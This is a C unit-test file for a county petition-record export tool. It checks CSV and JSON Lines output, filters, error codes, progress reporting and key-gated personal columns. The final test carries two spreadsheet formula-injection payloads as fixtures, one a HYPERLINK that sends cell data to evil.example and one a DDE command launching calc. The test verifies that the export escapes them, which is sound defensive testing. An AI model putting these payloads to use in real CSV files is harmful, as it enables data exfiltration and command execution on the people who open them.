/* Does export write exactly the rows and columns of list, in valid CSV and JSON Lines, one row at a
 * time? */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include <cjson/cJSON.h>

#include "county_export.h"
#include "county_testdb.h"

static const sj_personal_t s_wang = {"王小明", "230523199001011234", "13800000000", "村东头, 3号"};

/* Dates out of id order; text with comma, quote, newline, escape and CJK. */
static const county_testdb_matter_t s_data[] = {
    {"01900000-0000-7000-8000-000000000002", "2024-02-01", "230523101201", 1, 2, 12, 3, 1, 2, 2,
     "土地承包纠纷", NULL, 0},
    {"01900000-0000-7000-8000-000000000001", "2024-01-15", "230523100201", 2, 1, 1, 4, 3, 3, 3,
     "wages, \"site 3\"\nsecond line\x1b[31m", &s_wang, 0},
    {"01900000-0000-7000-8000-000000000003", "2024-02-01", "230523100202", 3, 1, 1, 1, 5, 1, 1,
     "noise\\", &s_wang, 1},
};
#define S_NDATA (sizeof s_data / sizeof s_data[0])

static const char s_csv[] =
    "id,occurred_on,station,township,channel,kind,persons,level,category,outcome,source,summary,"
    "station_name,township_name\n"
    "01900000-0000-7000-8000-000000000001,2024-01-15,230523100201,230523100,letter,individual,1,"
    "city,employment,accepted,assigned,\"wages, \"\"site 3\"\"\nsecond "
    "line\x1b[31m\",230523100201,230523100\n"
    "01900000-0000-7000-8000-000000000002,2024-02-01,230523101201,230523101,visit,collective,12,"
    "county,land,resolved_on_spot,leader_reception,土地承包纠纷,230523101201,230523101\n"
    "01900000-0000-7000-8000-000000000003,2024-02-01,230523100202,230523100,phone,individual,1,"
    "village,other,pending,direct,noise\\,230523100202,230523100\n";

static const char s_jsonl_first[] =
    "{\"id\":\"01900000-0000-7000-8000-000000000001\",\"occurred_on\":\"2024-01-15\","
    "\"station\":\"230523100201\",\"township\":\"230523100\",\"channel\":\"letter\","
    "\"kind\":\"individual\",\"persons\":1,\"level\":\"city\","
    "\"category\":\"employment\",\"outcome\":\"accepted\",\"source\":\"assigned\","
    "\"summary\":\"wages, \\\"site 3\\\"\\nsecond line\\u001b[31m\","
    "\"station_name\":\"230523100201\",\"township_name\":\"230523100\"}\n";

typedef struct {
    char *text;
    size_t len;
    char err[512];
    int64_t rows;
} s_out_t;

static int
s_export(county_testdb_t *db, const county_filter_t *f, county_export_format_t fmt, s_out_t *o)
{
    memset(o, 0, sizeof *o);
    FILE *out = open_memstream(&o->text, &o->len);
    assert_non_null(out);
    int rc = county_export_write(db->db, f, fmt, out, NULL, NULL, &o->rows, o->err, sizeof o->err);
    assert_int_equal(fclose(out), 0);
    return rc;
}

static int
s_setup(void **state)
{
    county_testdb_t *db = county_testdb_new();
    county_testdb_insert(db, s_data, S_NDATA);
    *state = db;
    return 0;
}

static int
s_teardown(void **state)
{
    county_testdb_t *db = *state;
    county_testdb_destroy(&db);
    return 0;
}

static void
test_county_export_format_parse(void **state)
{
    (void) state;
    county_export_format_t fmt = COUNTY_EXPORT_CSV;
    assert_int_equal(county_export_format_parse("jsonl", &fmt), SJ_OK);
    assert_int_equal(fmt, COUNTY_EXPORT_JSONL);
    assert_int_equal(county_export_format_parse("csv", &fmt), SJ_OK);
    assert_int_equal(fmt, COUNTY_EXPORT_CSV);
    assert_int_equal(county_export_format_parse("json", &fmt), SJ_EINVAL);
    assert_int_equal(county_export_format_parse(NULL, &fmt), SJ_EINVAL);
}

static void
test_county_export_csv_exact(void **state)
{
    s_out_t o;
    assert_int_equal(s_export(*state, NULL, COUNTY_EXPORT_CSV, &o), SJ_OK);
    assert_string_equal(o.text, s_csv);
    assert_int_equal(o.rows, 3);
    free(o.text);
}

/* The same rows as list --format csv, byte for byte. */
static void
test_county_export_csv_equals_list(void **state)
{
    county_testdb_t *db = *state;
    s_out_t o;
    char *list = NULL;
    size_t len = 0;
    char err[256];
    FILE *out = open_memstream(&list, &len);
    assert_int_equal(county_query_list(db->db, NULL, SJ_FMT_CSV, out, err, sizeof err), SJ_OK);
    assert_int_equal(fclose(out), 0);
    assert_int_equal(s_export(db, NULL, COUNTY_EXPORT_CSV, &o), SJ_OK);
    assert_string_equal(o.text, list);
    free(o.text);
    free(list);
}

static void
test_county_export_jsonl_lines_parse(void **state)
{
    s_out_t o;
    assert_int_equal(s_export(*state, NULL, COUNTY_EXPORT_JSONL, &o), SJ_OK);
    assert_int_equal(o.rows, 3);
    assert_memory_equal(o.text, s_jsonl_first, strlen(s_jsonl_first));
    /* every line is one JSON object with the 12 list columns and the 2 names */
    int lines = 0;
    for (char *line = o.text, *nl; (nl = strchr(line, '\n')) != NULL; line = nl + 1) {
        *nl = '\0';
        cJSON *obj = cJSON_Parse(line);
        assert_non_null(obj);
        assert_int_equal(cJSON_GetArraySize(obj), 14);
        assert_true(cJSON_IsNumber(cJSON_GetObjectItem(obj, "persons")));
        lines++;
        if (lines == 2) {
            assert_string_equal(cJSON_GetObjectItem(obj, "summary")->valuestring, "土地承包纠纷");
            assert_int_equal(cJSON_GetObjectItem(obj, "persons")->valueint, 12);
        }
        if (lines == 3) {
            assert_string_equal(cJSON_GetObjectItem(obj, "summary")->valuestring, "noise\\");
        }
        cJSON_Delete(obj);
    }
    assert_int_equal(lines, 3);
    free(o.text);
}

static void
test_county_export_filters_and_limit(void **state)
{
    s_out_t o;
    county_filter_t f = {.township = "230523100", .limit = 1};
    assert_int_equal(s_export(*state, &f, COUNTY_EXPORT_JSONL, &o), SJ_OK);
    assert_int_equal(o.rows, 1);
    assert_non_null(strstr(o.text, "-000000000001\""));
    free(o.text);
    county_filter_t g = {.from = "2024-02-01", .channel = "phone"};
    assert_int_equal(s_export(*state, &g, COUNTY_EXPORT_CSV, &o), SJ_OK);
    assert_int_equal(o.rows, 1);
    assert_non_null(strstr(o.text, "\n01900000-0000-7000-8000-000000000003,"));
    free(o.text);
}

static void
test_county_export_bad_filter_is_einval(void **state)
{
    s_out_t o;
    county_filter_t f = {.level = "moon"};
    assert_int_equal(s_export(*state, &f, COUNTY_EXPORT_CSV, &o), SJ_EINVAL);
    assert_non_null(strstr(o.err, "--level 'moon'"));
    assert_int_equal(o.rows, 0);
    assert_int_equal(o.len, 0);
    free(o.text);
}

/* --with-personal: four more columns, opened with the county key; a blob
 * sealed to another key says so instead of failing the export. */
static void
test_county_export_with_personal(void **state)
{
    county_testdb_t *db = *state;
    s_out_t o;
    county_filter_t f = {.personal = &db->kp};
    assert_int_equal(s_export(db, &f, COUNTY_EXPORT_CSV, &o), SJ_OK);
    assert_non_null(strstr(o.text, ",summary,petitioner_name,petitioner_id,petitioner_phone,"
                                   "petitioner_address,station_name,township_name\n"));
    assert_non_null(strstr(o.text, "\",王小明,230523199001011234,13800000000,\"村东头, 3号\","
                                   "230523100201,230523100\n"));
    assert_non_null(strstr(o.text, "土地承包纠纷,,,,,230523101201,230523101\n"));
    assert_non_null(strstr(o.text, "noise\\,(sealed to another key),,,,230523100202,230523100\n"));
    free(o.text);
    assert_int_equal(s_export(db, &f, COUNTY_EXPORT_JSONL, &o), SJ_OK);
    assert_non_null(strstr(o.text, "\"petitioner_name\":\"王小明\""));
    free(o.text);
    /* without the key: never any personal column */
    assert_int_equal(s_export(db, NULL, COUNTY_EXPORT_JSONL, &o), SJ_OK);
    assert_null(strstr(o.text, "petitioner"));
    assert_null(strstr(o.text, "王小明"));
    free(o.text);
}

static void
test_county_export_write_failure_is_eio(void **state)
{
    county_testdb_t *db = *state;
    FILE *out = fopen("/dev/full", "w");
    assert_non_null(out);
    char err[256] = "";
    int64_t rows = -1;
    assert_int_equal(county_export_write(db->db, NULL, COUNTY_EXPORT_CSV, out, NULL, NULL, &rows,
                                         err, sizeof err),
                     SJ_EIO);
    assert_non_null(strstr(err, "cannot write"));
    fclose(out);
}

typedef struct {
    int calls;
    int64_t last;
} s_progress_t;

static void
s_progress(void *ctx, int64_t rows)
{
    s_progress_t *p = ctx;
    p->calls++;
    p->last = rows;
}

/* Progress every 100,000 rows: 250,000 rows give two calls. */
static void
test_county_export_progress_every_100000(void **state)
{
    (void) state;
    county_testdb_t *db = county_testdb_new();
    county_testdb_fill(db->db, 250000, 2024);
    FILE *out = fopen("/dev/null", "w");
    assert_non_null(out);
    s_progress_t p = {0};
    char err[256] = "";
    int64_t rows = 0;
    assert_int_equal(county_export_write(db->db, NULL, COUNTY_EXPORT_JSONL, out, s_progress, &p,
                                         &rows, err, sizeof err),
                     SJ_OK);
    fclose(out);
    assert_int_equal(rows, 250000);
    assert_int_equal(p.calls, 2);
    assert_int_equal(p.last, 200000);
    county_testdb_destroy(&db);
}

/* A summary written to run as a formula in a spreadsheet is exported as
 * text (a leading '), in export and list alike; jsonl keeps it as it is. */
static void
test_county_export_csv_guards_formulas(void **state)
{
    (void) state;
    static const county_testdb_matter_t rows[] = {
        {"01900000-0000-7000-8000-000000000009", "2024-03-01", "230523100201", 1, 1, 1, 3, 1, 1, 1,
         "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", NULL, 0},
        {"01900000-0000-7000-8000-00000000000a", "2024-03-02", "230523100201", 1, 1, 1, 3, 1, 1, 1,
         "@SUM(1+1)*cmd|' /C calc'!A0", NULL, 0},
    };
    county_testdb_t *db = county_testdb_new();
    county_testdb_insert(db, rows, 2);
    s_out_t o;
    assert_int_equal(s_export(db, NULL, COUNTY_EXPORT_CSV, &o), SJ_OK);
    assert_non_null(
        strstr(o.text, ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","));
    assert_non_null(strstr(o.text, ",'@SUM(1+1)*cmd|' /C calc'!A0,"));
    assert_null(strstr(o.text, ",=")); /* no cell starts with = */
    assert_null(strstr(o.text, ",@"));
    char *list = NULL;
    size_t len = 0;
    char err[256];
    FILE *out = open_memstream(&list, &len);
    assert_int_equal(county_query_list(db->db, NULL, SJ_FMT_CSV, out, err, sizeof err), SJ_OK);
    assert_int_equal(fclose(out), 0);
    assert_string_equal(o.text, list);
    free(list);
    free(o.text);
    assert_int_equal(s_export(db, NULL, COUNTY_EXPORT_JSONL, &o), SJ_OK);
    assert_non_null(strstr(o.text, "\"summary\":\"=HYPERLINK("));
    free(o.text);
    county_testdb_destroy(&db);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_county_export_format_parse),
        cmocka_unit_test(test_county_export_csv_exact),
        cmocka_unit_test(test_county_export_csv_equals_list),
        cmocka_unit_test(test_county_export_csv_guards_formulas),
        cmocka_unit_test(test_county_export_jsonl_lines_parse),
        cmocka_unit_test(test_county_export_filters_and_limit),
        cmocka_unit_test(test_county_export_bad_filter_is_einval),
        cmocka_unit_test(test_county_export_with_personal),
        cmocka_unit_test(test_county_export_write_failure_is_eio),
        cmocka_unit_test(test_county_export_progress_every_100000),
    };
    return cmocka_run_group_tests_name("county_export", tests, s_setup, s_teardown);
}
